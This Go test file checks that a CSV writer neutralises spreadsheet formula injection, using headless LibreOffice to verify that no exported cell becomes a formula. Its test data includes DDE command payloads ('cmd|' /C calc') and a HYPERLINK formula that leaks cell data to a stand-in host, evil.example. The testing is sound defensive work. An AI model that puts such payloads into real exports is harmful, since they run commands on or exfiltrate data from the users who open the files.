package export

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// hostileTexts are text cells that try to become formulas, at the start of the cell or after a
// separator some locale uses (review D8 and cases 91–100).
var hostileTexts = []string{
	"Attack;=cmd|' /C calc'!A0", "x,=1+1", "x\t=1+1", "a;+1;-1;@A1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	"+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=1+1", "x;\"=1+1",
	"notes\n=1+1", "a\r\n@SUM(1)", "x\n\"=1+1", "- a bullet\n- another", "ok",
}

// TestCSVInLibreOffice imports CSV files written by the CSV writer into LibreOffice with each
// separator a locale may use (comma, semicolon, tab), formula evaluation on, and checks that
// no cell became a formula. A control file of bare =1+1 cells must give formulas, which proves
// the harness sees them. Skipped when LibreOffice is not installed.
func TestCSVInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice (soffice) is not installed")
	}
	if testing.Short() {
		t.Skip("starts LibreOffice")
	}
	tb := &Table{Name: "t", Columns: []*Column{{Name: "text", Type: TypeString}, {Name: "n", Type: TypeInteger}}}
	var safe bytes.Buffer
	cw, err := startCSV(&safe, tb, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range hostileTexts {
		if err := cw.write([]Cell{{Value: v}, {Value: "-5"}}); err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	profile := "-env:UserInstallation=file://" + filepath.Join(dir, "profile")
	for _, sep := range []struct {
		name string
		code int
		char string
	}{{"comma", 44, ","}, {"semicolon", 59, ";"}, {"tab", 9, "\t"}} {
		control := "text" + sep.char + "n\n=1+1" + sep.char + "2\n"
		if n := formulas(t, soffice, profile, dir, "control-"+sep.name, control, sep.code); n == 0 {
			t.Fatalf("%s: the control file gave no formula: the harness does not see them", sep.name)
		}
		if n := formulas(t, soffice, profile, dir, "export-"+sep.name, safe.String(), sep.code); n != 0 {
			t.Errorf("%s: %d formula cells in the CSV writer's output", sep.name, n)
		}
	}
}

// formulas converts a CSV file to XLSX with LibreOffice, separator sep (formula evaluation on),
// and counts the formula elements of its sheet.
func formulas(t *testing.T, soffice, profile, dir, name, csv string, sep int) int {
	t.Helper()
	in := filepath.Join(dir, name+".csv")
	if err := os.WriteFile(in, []byte(csv), 0o644); err != nil {
		t.Fatal(err)
	}
	filter := fmt.Sprintf("--infilter=CSV:%d,34,76,1,,0,false,true,false,false,false,false,true", sep)
	cmd := exec.Command(soffice, profile, "--headless", "--convert-to", "xlsx", filter, "--outdir", dir, in)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	zr, err := zip.OpenReader(filepath.Join(dir, name+".xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	n := 0
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		n += len(regexp.MustCompile(`<f[ >]`).FindAll(b, -1))
	}
	return n
}
